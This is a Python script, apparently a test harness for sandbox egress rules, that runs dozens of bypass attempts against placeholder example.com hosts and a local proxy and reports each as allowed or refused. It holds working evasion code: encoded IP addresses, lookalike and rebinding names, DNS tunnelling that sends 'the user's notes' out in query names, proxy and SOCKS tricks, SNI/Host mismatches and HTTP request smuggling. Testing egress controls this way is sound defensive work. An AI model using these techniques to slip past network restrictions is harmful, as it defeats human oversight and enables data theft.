"""Ways around the rules, one per name. Each reaches a server when nobody stands in between.

usage: evade.py NAME…    prints `NAME: allowed DETAIL` or `NAME: refused ERROR` for each
"""

import os
import socket
import ssl
import struct
import sys

PROXY = ("127.0.0.1", 3128)
ALLOWED, LOOKED, OTHER = "allowed.example.com", "looked.example.com", "other.example.com"
PATIENCE = 60
ATTEMPTS = {}


def attempt(function):
    ATTEMPTS[function.__name__.replace("_", "-")] = function
    return function


def dial(host, port, family=socket.AF_UNSPEC):
    if family == socket.AF_UNSPEC:
        return socket.create_connection((host, port), PATIENCE)
    stream = socket.socket(family, socket.SOCK_STREAM)
    stream.settimeout(PATIENCE)
    stream.connect((host, port))
    return stream


def over_tls(stream, name, protocols=("http/1.1",)):
    # Whom a server claims to be is no concern of an attacker's.
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(list(protocols))
    return context.wrap_socket(stream, server_hostname=name)


def ask(stream, host, path="/forbidden"):
    stream.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    return read_answer(stream)


def read_answer(stream):
    """The body of one answer, and nothing after it; an answer that is not a success is a refusal."""
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += read_exactly(stream, 1)
    status = head.split(b" ", 2)[1]
    length = [line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")]
    body = read_exactly(stream, int(length[0].split(b":")[1]) if length else 0)
    if not status.startswith(b"2"):
        raise PermissionError(head.decode("latin-1").replace("\r\n", " | "))
    return body.decode("latin-1")


def read_exactly(stream, count):
    text = b""
    while len(text) < count:
        part = stream.recv(count - len(text))
        if not part:
            raise ConnectionError(f"closed after {text!r}")
        text += part
    return text


def plain(host, name=None, port=80):
    return ask(dial(host, port), name or host)


# Addresses.


@attempt
def direct_ip():
    return ask(over_tls(dial("93.184.216.35", 443), OTHER), OTHER)


@attempt
def direct_ip_in_the_clear():
    return plain("93.184.216.35")


@attempt
def direct_ip_of_an_allowed_name():
    return ask(over_tls(dial("93.184.216.34", 443), ALLOWED), ALLOWED)


@attempt
def ipv6_literal():
    return ask(over_tls(dial("2606:2800:220:1::2", 443), OTHER), OTHER)


@attempt
def ipv4_mapped_ipv6():
    return ask(over_tls(dial("::ffff:93.184.216.35", 443, socket.AF_INET6), OTHER), OTHER)


@attempt
def decimal_ip():
    return plain("1572395043", "93.184.216.35")


@attempt
def octal_ip():
    return plain("0135.0270.0330.043", "93.184.216.35")


@attempt
def hex_ip():
    return plain("0x5db8d823", "93.184.216.35")


@attempt
def short_ip():
    return plain("93.12113955", "93.184.216.35")


# Names.


@attempt
def trailing_dot():
    return plain(OTHER + ".", OTHER)


@attempt
def uppercase():
    return plain(OTHER.upper(), OTHER)


@attempt
def punycode():
    # A Cyrillic letter in place of the first: reads as a name that is allowed.
    return plain("xn--llowed-5fg.example.com")


@attempt
def apex_of_a_wildcard():
    return plain("wild.example.com")


@attempt
def suffix_of_an_allowed_name():
    return plain(f"{ALLOWED}.evil.example.com")


@attempt
def prefix_of_an_allowed_name():
    return plain(f"evil{ALLOWED}")


@attempt
def name_that_is_loopback():
    return plain("loop.example.com")


@attempt
def name_that_is_metadata():
    return plain("meta.example.com")


@attempt
def name_that_is_private():
    return plain("private.example.com")


@attempt
def name_that_is_mapped_loopback():
    return plain("mapped.example.com")


@attempt
def redirect():
    import urllib.request

    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    return opener.open(f"http://{ALLOWED}/redirect?to=http://{OTHER}/elsewhere", timeout=PATIENCE).read().decode()


@attempt
def rebinding():
    """A name that is public at every other look: one that looks before it connects has looked for nothing."""
    told = []
    for _ in range(6):
        try:
            socket.getaddrinfo("rebind.example.com", 8080, socket.AF_INET)
            told.append(ask(dial("rebind.example.com", 8080), "rebind.example.com", "/where"))
        except OSError as error:
            told.append(str(error))
    if not any("10.9.8.7" in text for text in told):
        raise PermissionError(f"the private host was never reached: {told}")
    return "10.9.8.7"


# Name lookups.


def question(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 4711, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def answered(answer):
    code = answer[3] & 15
    if code not in (0,):
        raise PermissionError(f"answered with code {code}")
    return f"answered in {len(answer)} bytes"


def ask_udp(server, query):
    stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stream.settimeout(PATIENCE)
    stream.connect((server, 53))
    stream.send(query)
    return answered(stream.recv(4096))


@attempt
def dns_elsewhere():
    return ask_udp("8.8.8.8", question("forbidden.example.com"))


@attempt
def dns_elsewhere_over_tcp():
    query = question("forbidden.example.com")
    stream = dial("8.8.8.8", 53)
    stream.sendall(struct.pack("!H", len(query)) + query)
    head = stream.recv(2)
    if len(head) < 2:
        raise ConnectionError("closed")
    return answered(stream.recv(4096))


def tunnel_name():
    data = (b"the user's notes, going out as names: " * 4).hex()
    return ".".join([data[:60], data[60:120], data[120:170], "forbidden", "example", "com"])


@attempt
def dns_tunnel():
    return ask_udp("127.0.0.1", question(tunnel_name()))


@attempt
def dns_tunnel_below_an_allowed_name():
    return ask_udp("127.0.0.1", question("forbidden." + "x" * 60 + "." + ALLOWED))


@attempt
def dns_tunnel_by_the_library():
    return str(socket.getaddrinfo(tunnel_name(), 443))


@attempt
def dns_text():
    """Answers of this kind carry anything."""
    return ask_udp("127.0.0.1", question("forbidden.example.com", 16))


# The proxy in the box. Outside, one stands there that forwards whatever it is asked for.


def through_proxy(target, head=""):
    stream = socket.create_connection(PROXY, PATIENCE)
    stream.sendall(f"CONNECT {target} HTTP/1.1\r\n{head}\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        part = stream.recv(4096)
        if not part:
            raise ConnectionError("the proxy closed")
        answer += part
    if b" 200 " not in answer:
        raise PermissionError(answer.split(b"\r\n")[0].decode())
    return stream


@attempt
def proxy_to_an_address():
    return ask(over_tls(through_proxy("93.184.216.35:443"), OTHER), OTHER)


@attempt
def proxy_to_a_decimal_address():
    return ask(over_tls(through_proxy("1572395043:443"), OTHER), OTHER)


@attempt
def proxy_with_userinfo():
    return ask(over_tls(through_proxy(f"{ALLOWED}@{OTHER}:443"), OTHER), OTHER)


@attempt
def proxy_with_another_host():
    return ask(over_tls(through_proxy(f"{OTHER}:443", f"Host: {ALLOWED}:443\r\n"), OTHER), OTHER)


@attempt
def connect_is_not_sni():
    return ask(over_tls(through_proxy(f"{ALLOWED}:443"), OTHER), OTHER)


@attempt
def plain_through_connect():
    return ask(through_proxy(f"{ALLOWED}:443"), ALLOWED)


@attempt
def forward_with_userinfo():
    stream = socket.create_connection(PROXY, PATIENCE)
    stream.sendall(f"GET http://{ALLOWED}@{OTHER}/forbidden HTTP/1.1\r\nHost: {OTHER}\r\n\r\n".encode())
    return read_answer(stream)


@attempt
def url_with_userinfo():
    import subprocess

    url = f"http://{ALLOWED}@{OTHER}/forbidden"
    done = subprocess.run(["curl", "-sSf", "--max-time", str(PATIENCE), url], capture_output=True, text=True)
    if done.returncode:
        raise PermissionError(done.stderr)
    return done.stdout


def through_socks(name, port=443):
    stream = socket.create_connection(PROXY, PATIENCE)
    stream.sendall(b"\x05\x01\x00")
    if stream.recv(2) != b"\x05\x00":
        raise ConnectionError("no SOCKS here")
    stream.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + struct.pack("!H", port))
    answer = stream.recv(10)
    if answer[1:2] != b"\0":
        raise PermissionError(f"SOCKS said {answer!r}")
    return stream


@attempt
def socks_to_another_name():
    return ask(over_tls(through_socks(OTHER.encode()), OTHER), OTHER)


@attempt
def socks_with_nul():
    return ask(over_tls(through_socks(OTHER.encode() + b"\0." + ALLOWED.encode()), OTHER), OTHER)


# TLS and HTTP on connections that a rule allows.


@attempt
def sni_of_another():
    return ask(over_tls(dial(ALLOWED, 443), OTHER), OTHER)


@attempt
def no_sni():
    return ask(over_tls(dial(ALLOWED, 443), None), OTHER)


@attempt
def plain_on_443():
    return ask(dial(ALLOWED, 443), ALLOWED)


@attempt
def host_is_not_sni():
    return ask(over_tls(dial(LOOKED, 443), LOOKED), OTHER, "/ok/forbidden")


@attempt
def host_is_not_sni_when_reused():
    stream = over_tls(dial(LOOKED, 443), LOOKED)
    ask(stream, LOOKED, "/ok")
    return ask(stream, OTHER, "/ok/forbidden")


@attempt
def host_is_another_in_the_clear():
    stream = dial(ALLOWED, 80)
    ask(stream, ALLOWED, "/ok")
    return ask(stream, OTHER)


@attempt
def absolute_form_of_another():
    stream = dial(ALLOWED, 80)
    stream.sendall(f"GET http://{OTHER}/forbidden HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n".encode())
    return read_answer(stream)


@attempt
def path_beside_the_rule():
    return ask(over_tls(dial(LOOKED, 443), LOOKED), LOOKED, "/forbidden")


@attempt
def path_by_dots():
    return ask(over_tls(dial(LOOKED, 443), LOOKED), LOOKED, "/ok/../forbidden")


@attempt
def path_by_encoded_dots():
    return ask(over_tls(dial(LOOKED, 443), LOOKED), LOOKED, "/ok/%2e%2e/forbidden")


def smuggle(stream, head, body):
    """Sends what one reader takes for one request and another for two."""
    stream.sendall(f"POST /ok HTTP/1.1\r\nHost: {LOOKED}\r\n{head}\r\n".encode() + body)
    first = read_answer(stream)
    # The second answer is to a request that the rules never saw.
    return first + read_answer(stream)


HIDDEN = f"GET /forbidden HTTP/1.1\r\nHost: {LOOKED}\r\n\r\n".encode()


@attempt
def smuggle_length_and_chunks():
    body = b"0\r\n\r\n" + HIDDEN
    return smuggle(over_tls(dial(LOOKED, 443), LOOKED), "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", body)


@attempt
def smuggle_two_lengths():
    head = f"Content-Length: 0\r\nContent-Length: {len(HIDDEN)}\r\n"
    return smuggle(over_tls(dial(LOOKED, 443), LOOKED), head, HIDDEN)


@attempt
def smuggle_bare_line_feed():
    head = f"X: y\nContent-Length: 0\r\nContent-Length: {len(HIDDEN)}\r\n"
    return smuggle(over_tls(dial(LOOKED, 443), LOOKED), head, HIDDEN)


@attempt
def smuggle_in_the_clear():
    stream = dial(LOOKED, 80)
    return smuggle(stream, "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + HIDDEN)


def ask_http2(authority, extra=()):
    import h2.config
    import h2.connection
    import h2.events

    stream = over_tls(dial(LOOKED, 443), LOOKED, ["h2"])
    config = h2.config.H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False)
    connection = h2.connection.H2Connection(config=config)
    connection.initiate_connection()
    head = [(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", "/ok/forbidden"), *extra]
    connection.send_headers(1, head, end_stream=True)
    stream.sendall(connection.data_to_send())
    while data := stream.recv(65536):
        for event in connection.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                status = dict(event.headers)[b":status"]
                if status != b"200":
                    raise PermissionError(f"status {status}")
                return "answered"
            if isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                raise ConnectionError(str(event))
        stream.sendall(connection.data_to_send())
    raise ConnectionError("closed")


@attempt
def http2_authority_of_another():
    return ask_http2(OTHER)


@attempt
def http2_host_of_another():
    return ask_http2(LOOKED, [("host", OTHER)])


# What is not TCP.


def exchange_datagram(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    stream = socket.socket(family, socket.SOCK_DGRAM)
    stream.settimeout(PATIENCE)
    stream.connect((address, port))
    stream.send(b"forbidden")
    return stream.recv(2048).decode()


@attempt
def quic():
    return exchange_datagram("93.184.216.34", 443)


@attempt
def quic_to_an_allowed_name():
    return exchange_datagram(socket.gethostbyname(ALLOWED), 443)


@attempt
def quic_over_ipv6():
    return exchange_datagram("2606:2800:220:1::1", 443)


@attempt
def ping():
    stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    stream.settimeout(PATIENCE)
    stream.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"forbidden", ("93.184.216.34", 0))
    return str(len(stream.recv(2048)))


def main():
    for name in sys.argv[1:]:
        try:
            print(f"{name}: allowed {str(ATTEMPTS[name]())[:200]!r}", flush=True)
        except (OSError, ssl.SSLError) as error:
            print(f"{name}: refused {type(error).__name__} {error}".replace("\n", " "), flush=True)
    sys.stdout.flush()
    # Threads and sockets that hang are no concern of the result.
    os._exit(0)


main()
